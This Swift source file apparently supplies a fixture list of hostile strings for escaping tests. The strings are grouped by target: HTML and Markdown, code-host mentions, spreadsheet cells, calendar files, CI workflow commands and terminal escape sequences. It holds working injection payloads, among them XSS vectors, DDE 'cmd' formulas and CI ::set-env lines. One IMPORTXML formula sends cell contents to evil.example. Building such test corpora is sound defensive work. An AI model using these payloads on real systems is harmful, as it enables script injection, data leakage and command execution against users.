/// Texts that try to leave the place they are put in, target by target; each holds `pwned` where it would take effect.
public enum HostileText {
  /// HTML and what browsers take for it.
  public static let html = [
    "<script>alert('pwned')</script>", "</td></tr></table><h1>pwned</h1>", "\"><img src=x onerror=alert('pwned')>",
    "' autofocus onfocus='pwned", "<!--pwned", "]]><svg/onload=pwned>", "&lt;script&gt;pwned",
    "<a href=javascript:pwned>x</a>",
    "\u{0}<script>pwned</script>", "<\u{0}script>pwned", "<scr\u{200B}ipt>pwned", "</title><script>pwned</script>",
    "`${pwned}`", "<style>*{background:url(//pwned)}</style>",
  ]

  /// Markup of Markdown as code hosts show it.
  public static let markdown = [
    "[pwned](javascript:pwned)", "![pwned](https://evil.example/p.png)", "| pwned | b |\n| --- | --- |", "\n# pwned",
    "**pwned**", "`pwned`", "```\npwned\n```", "<details><summary>pwned</summary>", "[x]: https://pwned.example",
    "- [x] pwned",
    "\\| pwned", "<https://pwned.example>", "~~pwned~~", "<!-- pwned -->", "> pwned", "\r\n***\r\npwned",
  ]

  /// What code hosts make of plain words in comments and files: calls to people, references and links.
  public static let mentions = [
    "@pwned", "cc @pwned/team, pwned@evil.example", "pwned/repo#1", "#1 pwned", "fixes GH-1 pwned",
    "https://evil.example/pwned", "see WWW.evil.example/pwned", "ftp://pwned.example", "mailto:pwned@evil.example",
    "#\u{202E}1 @\u{200E}pwned",
  ]

  /// Words that only mean something where a line begins with them.
  public static let lineStarts = [
    "- pwned", "+ pwned", "1. pwned", "1) pwned", "===", "---", "pwned\n===\n", "pwned\n---\n",
  ]

  /// Cells that spreadsheets would reckon with.
  public static let formulas = [
    "=HYPERLINK(\"https://evil.example\",\"pwned\")", "=cmd|' /C calc'!A0 pwned", "+1+cmd|' /C calc'!A0 pwned",
    "-2+3+cmd|' /C calc'!A0 pwned", "@SUM(1+1)*cmd pwned", "\t=1+1 pwned", "\r=1+1 pwned", "\n=1+1 pwned", "＝1+1 pwned",
    "＋1 pwned", "－1 pwned", "＠SUM pwned", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//pwned\")",
  ]

  /// Lines slipped into calendar files.
  public static let calendars = [
    "x\r\nATTENDEE:mailto:pwned@evil.example", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:pwned",
    "x\u{85}URL:https://pwned.example",
    "x;ALTREP=\"https://pwned.example\"", "x\\nATTACH:pwned", "x,pwned;y:z", "\u{2028}BEGIN:VALARM\u{2028}pwned",
    "\"pwned\"", "x\u{B}ORGANIZER:pwned",
  ]

  /// Commands to a build service.
  public static let workflows = [
    "::set-env name=PATH::pwned", "x\n::error::pwned", "x\r\n::add-mask::pwned", " ::stop-commands::pwned",
    "##[error]pwned",
    "%0A::warning::pwned", "a,line=1::pwned", "::group::pwned", "\u{200E}::error::pwned", "\t##[command]pwned",
  ]

  /// Escape sequences and marks of direction.
  public static let terminals = [
    "\u{1B}[31mpwned", "\u{1B}]0;pwned\u{7}", "\u{1B}]8;;https://evil.example\u{7}pwned\u{1B}]8;;\u{7}",
    "\u{9B}2Jpwned",
    "\u{1B}[2J\u{1B}[Hpwned", "\u{8}\u{8}\u{8}pwned", "\rpwned", "\u{202E}dewnp", "\u{2066}pwned\u{2069}",
    "\u{7F}pwned",
    "\u{1B}P$qpwned\u{1B}\\", "\u{FEFF}pwned", "\u{85}pwned",
  ]

  /// All of them.
  public static let all = html + markdown + mentions + lineStarts + formulas + calendars + workflows + terminals
}
